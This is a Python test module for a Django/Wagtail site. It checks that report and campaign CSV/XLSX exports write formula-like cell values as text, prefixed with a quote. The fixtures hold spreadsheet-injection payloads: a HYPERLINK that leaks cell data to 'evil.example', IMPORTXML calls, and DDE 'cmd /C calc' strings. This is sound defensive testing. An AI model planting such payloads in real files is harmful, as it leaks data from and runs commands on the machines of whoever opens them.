"""Bad input: spreadsheet formulas in the CSV and XLSX exports (CSV injection).

A value an editor (or any user) typed that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is read as a formula by a spreadsheet that
opens the export. Every export of the project (the reports built on Wagtail's
``SpreadsheetExportMixin``, Wagtail's own reports, the campaign CSV) writes it
as text, prefixed with a single quote (OWASP's advice), through one function.
"""

import csv
import datetime
import io

from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy

import pytest
from openpyxl import load_workbook

from campaigns.measurement import CampaignFigures
from crieur.exports import neutralise_formula
from testimonials.views import ExpiringConsentsReportView
from tests.factories import RegulationPageFactory, ServicePageFactory, TestimonialPageFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


@pytest.mark.parametrize(
    "value", ["=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", HOSTILE]
)
def test_formula_starts_are_written_as_text(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Site web", "1+1=2", " =1", "'=1", "", 3, -3, 2.5, None])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_lazy_strings_are_neutralised():
    assert neutralise_formula(gettext_lazy("=1+1")) == "'=1+1"


def publish(page):
    page.save_revision().publish()
    return page


def csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def cells(rows):
    return [cell for row in rows for cell in row if isinstance(cell, str)]


@pytest.fixture
def hostile_pages(site_tree):
    today = timezone.localdate()
    return {
        "testimonial": publish(
            TestimonialPageFactory(
                parent=site_tree.testimonials,
                slug="hostile",
                title=HOSTILE,
                display_name="@SUM(1+1)*cmd|' /C calc'!A0",
                consent_until=today + datetime.timedelta(days=5),
            )
        ),
        "regulation": publish(
            RegulationPageFactory(
                parent=site_tree.regulations,
                slug="hostile",
                title="-2+3+cmd|' /C calc'!A0",
                question='+1+HYPERLINK("http://evil.example")',
                last_checked=today - datetime.timedelta(days=400),
            )
        ),
        "service": publish(
            ServicePageFactory(
                parent=site_tree.services,
                slug="hostile",
                title="\t=1+1",
                trial_offer='\r=IMPORTXML("http://evil.example","//a")',
                trial_until=today - datetime.timedelta(days=3),
            )
        ),
    }


REPORTS = [
    # (URL name, the hostile values its export must show as text)
    ("expiring_consents_report", [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"]),
    ("stale_regulations_report", ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example")']),
    ("ended_trials_report", ["\t=1+1", '\r=IMPORTXML("http://evil.example","//a")']),
    # Wagtail's own report: the log entry is labelled with the hostile title.
    ("wagtailadmin_reports:site_history", [HOSTILE]),
]


@pytest.mark.parametrize(("name", "values"), REPORTS)
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_report_exports_write_hostile_values_as_text(
    admin_client, hostile_pages, name, values, export
):
    response = admin_client.get(reverse(name), {"export": export})
    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    written = cells(rows)
    for value in values:
        if export == "xlsx":
            value = value.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert "'" + value in written, (value, rows)
        assert value not in written
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_export_headings_are_neutralised_too(admin_client, hostile_pages, monkeypatch, export):
    monkeypatch.setattr(
        ExpiringConsentsReportView,
        "export_headings",
        {**ExpiringConsentsReportView.export_headings, "display_name": "=Nom"},
    )
    response = admin_client.get(reverse("expiring_consents_report"), {"export": export})
    header = (csv_rows(response) if export == "csv" else xlsx_rows(response))[0]
    assert header[1] == "'=Nom"


def test_campaign_csv_writes_hostile_cells_as_text(admin_client, site_tree, monkeypatch):
    from tests.factories import CampaignPageFactory

    campaign = publish(CampaignPageFactory(parent=site_tree.campaigns, slug="hostile"))
    day = timezone.localdate()

    def compute(self):
        self.channels = [("website", HOSTILE)]
        self.days = [day]
        self.daily = {"website": ["-1"]}
        self.daily_total = ["@1"]

    monkeypatch.setattr(CampaignFigures, "_compute", compute)
    response = admin_client.get(reverse("campaign_dashboard_csv", args=[campaign.pk]))
    header, row = csv_rows(response)
    assert header[1] == "'" + HOSTILE
    assert row == [day.isoformat(), "'-1", "'@1"]
